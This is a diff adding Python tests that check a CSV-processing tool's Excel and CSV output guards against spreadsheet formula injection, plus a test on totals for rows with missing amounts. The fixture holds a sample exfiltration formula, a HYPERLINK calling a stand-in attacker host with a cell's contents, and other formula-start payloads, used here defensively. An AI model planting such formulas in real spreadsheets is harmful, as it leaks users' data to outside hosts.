@@ -401,3 +401,85 @@ def test_a_number_cell_chooses_the_same_plan_whatever_came_before(
     second = json.loads(out_after.splitlines()[1])
     assert "error" in first
     assert second == {**first, "row": 2}
+
+
+# --- output meant for Excel never runs input text as a formula ----------------------------------
+
+HOSTILE = '=HYPERLINK("http://evil.example/?leak="&A1,"click")'
+
+
+def hostile_input(tmp_path: Path) -> Path:
+    source = tmp_path / "in.csv"
+    rows = [["benefit", "amount"], [HOSTILE, "5"], ["+1+2", "5"], ["@SUM(A1)", "5"]]
+    rows += [["\tx", "5"], ["-3+4", "5"], ["techloan", "=1+2"], ["techloan", "300万"]]
+    import csv
+
+    with source.open("w", encoding="utf-8", newline="") as out:
+        csv.writer(out).writerows(rows)
+    return source
+
+
+def test_xlsx_output_stores_text_as_text(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path
+) -> None:
+    openpyxl = pytest.importorskip("openpyxl")
+    target = tmp_path / "out.xlsx"
+    code, _, _ = ytsub(
+        capsys, str(hostile_input(tmp_path)), "-q", "--as-of", AS_OF, "-o", str(target)
+    )
+    assert code == 1
+    sheet = openpyxl.load_workbook(target).active
+    cells = [cell for row in sheet.iter_rows() for cell in row]
+    assert not [cell.coordinate for cell in cells if cell.data_type == "f"]
+    assert sheet["B2"].value == HOSTILE  # the text kept exactly, as text
+    assert sheet["I7"].value.startswith("--amount: not an amount of money: '=1+2'")
+
+
+@pytest.mark.parametrize("jobs", ["1", "2"])
+def test_csv_for_excel_neutralises_formula_starts(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, jobs: str
+) -> None:
+    import csv
+    import io
+
+    code, out, _ = ytsub(
+        capsys,
+        str(hostile_input(tmp_path)),
+        "-q",
+        "-f",
+        "csv",
+        "--bom",
+        "-j",
+        jobs,
+        "--as-of",
+        AS_OF,
+    )
+    assert code == 1
+    rows = list(csv.reader(io.StringIO(out.removeprefix("\ufeff"))))
+    assert [r[1] for r in rows[1:6]] == ["'" + HOSTILE, "'+1+2", "'@SUM(A1)", "'\tx", "'-3+4"]
+    assert rows[6][8].startswith("'--amount: not an amount of money: '=1+2' (write ")
+    assert rows[7][1:5] == ["techloan", "48", "conditional", "0.00"]
+    # without --bom the CSV is data for programs: every cell as it is
+    _, plain, _ = ytsub(capsys, str(hostile_input(tmp_path)), "-q", "-f", "csv", "--as-of", AS_OF)
+    assert list(csv.reader(io.StringIO(plain)))[1][1] == HOSTILE
+
+
+# --- totals --------------------------------------------------------------------------------------
+
+
+@pytest.mark.parametrize("jobs", ["1", "2"])
+def test_an_amount_with_no_money_is_listed_not_added(
+    capsys: pytest.CaptureFixture[str], tmp_path: Path, jobs: str
+) -> None:
+    source = tmp_path / "in.csv"
+    source.write_text(
+        "benefit,amount\ntravel-deposit,\ntechloan,300万\ntravel-deposit,\n", encoding="utf-8"
+    )
+    code, _, err = ytsub(
+        capsys, str(source), "--as-of", AS_OF, "-j", jobs, "-o", str(tmp_path / "o.jsonl")
+    )
+    assert code == 0
+    assert err == (
+        "3 rows: 3 ok, 0 failed; total ¥0.00 – ¥45,000.00 (CNY); 2 row(s) whose amount"
+        " the document does not state (not added): travel-deposit\n"
+    )
